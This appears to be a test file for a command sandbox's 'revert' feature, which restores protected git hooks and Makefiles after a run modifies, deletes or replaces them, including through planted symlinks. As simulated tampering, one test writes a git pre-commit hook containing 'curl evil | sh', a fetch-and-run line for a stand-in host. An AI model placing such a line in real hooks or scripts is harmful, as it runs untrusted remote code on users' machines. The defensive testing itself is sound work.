/**
 * `verify.files.action: revert` on real directories: protected files the run modified, deleted or
 * created are put back (content, mode, link target), nothing is written through a symlink the run
 * planted, and what cannot be put back is named (the pipeline then blocks). Last, a real sandboxed
 * run through the pipeline that rewrites a protected file.
 */
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { createAirlock } from '../../src/airlock.js';
import { backupProtected, revertProtected, takeSnapshot } from '../../src/sandbox/files/index.js';
import { diffSnapshots } from '../../src/verify/index.js';
import { cleanup, policyFor, tempDir } from '../sandbox/helpers.js';

describe('revertProtected', () => {
  let ws: string;
  let outside: string;
  beforeEach(() => {
    ws = mkdtempSync(path.join(os.tmpdir(), 'airlock-revert-'));
    outside = mkdtempSync(path.join(os.tmpdir(), 'airlock-revert-out-'));
    mkdirSync(path.join(ws, '.git/hooks'), { recursive: true });
    writeFileSync(path.join(ws, '.git/hooks/pre-commit'), '#!/bin/sh\nnpm test\n');
    chmodSync(path.join(ws, '.git/hooks/pre-commit'), 0o755);
    writeFileSync(path.join(ws, '.git/hooks/pre-push'), 'old push hook\n');
    symlinkSync('pre-commit', path.join(ws, '.git/hooks/post-merge'));
    writeFileSync(path.join(ws, 'notes.txt'), 'free to change\n');
  });
  afterEach(() => {
    rmSync(ws, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });
  const protect = ['.git/hooks/**'];

  it('puts back modified, deleted and re-pointed files and removes created ones; leaves the rest', () => {
    const before = takeSnapshot(ws);
    const backup = backupProtected(ws, before, protect);
    writeFileSync(path.join(ws, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
    chmodSync(path.join(ws, '.git/hooks/pre-commit'), 0o777);
    unlinkSync(path.join(ws, '.git/hooks/pre-push'));
    unlinkSync(path.join(ws, '.git/hooks/post-merge'));
    symlinkSync('/bin/sh', path.join(ws, '.git/hooks/post-merge'));
    writeFileSync(path.join(ws, '.git/hooks/post-checkout'), 'new hook\n');
    writeFileSync(path.join(ws, 'notes.txt'), 'changed\n');
    const diff = diffSnapshots(before, takeSnapshot(ws));
    const report = revertProtected(backup, diff.changed);
    assert.deepEqual(report.failed, []);
    assert.deepEqual(report.reverted.sort(), ['.git/hooks/post-checkout', '.git/hooks/post-merge', '.git/hooks/pre-commit', '.git/hooks/pre-push']);
    assert.equal(readFileSync(path.join(ws, '.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\nnpm test\n');
    assert.equal(statSync(path.join(ws, '.git/hooks/pre-commit')).mode & 0o777, 0o755);
    assert.equal(readFileSync(path.join(ws, '.git/hooks/pre-push'), 'utf8'), 'old push hook\n');
    assert.equal(readlinkSync(path.join(ws, '.git/hooks/post-merge')), 'pre-commit');
    assert.equal(existsSync(path.join(ws, '.git/hooks/post-checkout')), false);
    assert.equal(readFileSync(path.join(ws, 'notes.txt'), 'utf8'), 'changed\n', 'unprotected files are not touched');
    assert.deepEqual(diffSnapshots(before, takeSnapshot(ws)).changed, ['notes.txt']);
  });

  it('puts a file back where the run replaced it with a directory of files', () => {
    const before = takeSnapshot(ws);
    const backup = backupProtected(ws, before, protect);
    unlinkSync(path.join(ws, '.git/hooks/pre-push'));
    mkdirSync(path.join(ws, '.git/hooks/pre-push'));
    writeFileSync(path.join(ws, '.git/hooks/pre-push/x'), 'x');
    const report = revertProtected(backup, diffSnapshots(before, takeSnapshot(ws)).changed);
    assert.deepEqual(report.failed, []);
    assert.equal(readFileSync(path.join(ws, '.git/hooks/pre-push'), 'utf8'), 'old push hook\n');
  });

  it('never writes through a directory the run turned into a symlink', () => {
    const before = takeSnapshot(ws);
    const backup = backupProtected(ws, before, ['cfg/**']);
    mkdirSync(path.join(ws, 'cfg'));
    writeFileSync(path.join(ws, 'cfg/a'), 'created');
    const after = takeSnapshot(ws);
    // The directory is swapped for a link to a host directory between the snapshot and the revert.
    rmSync(path.join(ws, 'cfg'), { recursive: true });
    writeFileSync(path.join(outside, 'a'), 'host file');
    symlinkSync(outside, path.join(ws, 'cfg'));
    const report = revertProtected(backup, diffSnapshots(before, after).changed);
    assert.deepEqual(report.reverted, []);
    assert.match(report.failed[0]!.reason, /symlink/);
    assert.equal(readFileSync(path.join(outside, 'a'), 'utf8'), 'host file', 'the host file is untouched');
  });

  it('names what it could not keep (too large) instead of pretending', () => {
    const before = takeSnapshot(ws);
    const backup = backupProtected(ws, before, protect, { maxFileBytes: 4 });
    writeFileSync(path.join(ws, '.git/hooks/pre-commit'), 'evil');
    const report = revertProtected(backup, diffSnapshots(before, takeSnapshot(ws)).changed);
    assert.deepEqual(report.reverted, []);
    assert.equal(report.failed[0]!.path, '.git/hooks/pre-commit');
    assert.match(report.failed[0]!.reason, /not kept/);
  });

  it('does not remove a "created" path when the snapshot before the run was partial', () => {
    const before = takeSnapshot(ws, { maxFiles: 1 });
    const backup = backupProtected(ws, before, protect);
    const report = revertProtected(backup, ['.git/hooks/pre-push']);
    assert.equal(report.failed.length + report.reverted.length, 1);
    assert.ok(existsSync(path.join(ws, '.git/hooks/pre-push')));
  });
});

describe('the pipeline with verify.files.action: revert', () => {
  it('undoes a sandboxed run\'s change to a protected file and still returns its output', async () => {
    const ws = tempDir('airlock-revert-run-');
    try {
      mkdirSync(path.join(ws, 'deploy'));
      writeFileSync(path.join(ws, 'deploy/Makefile'), 'all:\n\ttrue\n');
      // `**/Makefile` has no fixed prefix, so the sandbox cannot mount it read-only: revert is the guard.
      const policy = policyFor(ws, { verify: { files: { protect: ['**/Makefile'], action: 'revert' } } });
      const airlock = createAirlock({ policy, audit: false });
      const r = await airlock.run({ kind: 'command', argv: ['/bin/sh', '-c', 'echo MODE=owned > deploy/Makefile; echo hi > Makefile; echo done'] });
      assert.equal(r.ran, true);
      assert.equal(r.exitCode, 0);
      assert.equal(r.stdout, 'done\n', 'revert keeps the output');
      assert.deepEqual(r.files.reverted, ['Makefile', 'deploy/Makefile']);
      assert.ok(r.findings.some((f) => f.rule === 'files.protected-path-changed'));
      assert.match(r.reasons.join(' '), /put back/);
      assert.equal(readFileSync(path.join(ws, 'deploy/Makefile'), 'utf8'), 'all:\n\ttrue\n');
      assert.equal(existsSync(path.join(ws, 'Makefile')), false);

      const blocking = createAirlock({ policy: policyFor(ws, { verify: { files: { protect: ['**/Makefile'], action: 'block' } } }), audit: false });
      const b = await blocking.run({ kind: 'command', argv: ['/bin/sh', '-c', 'echo MODE=owned > deploy/Makefile; echo done'] });
      assert.equal(b.stdout, '');
      assert.equal(b.files.reverted, undefined);
      assert.equal(readFileSync(path.join(ws, 'deploy/Makefile'), 'utf8'), 'MODE=owned\n', 'block reports, it does not undo');
    } finally {
      cleanup(ws);
    }
  });
});
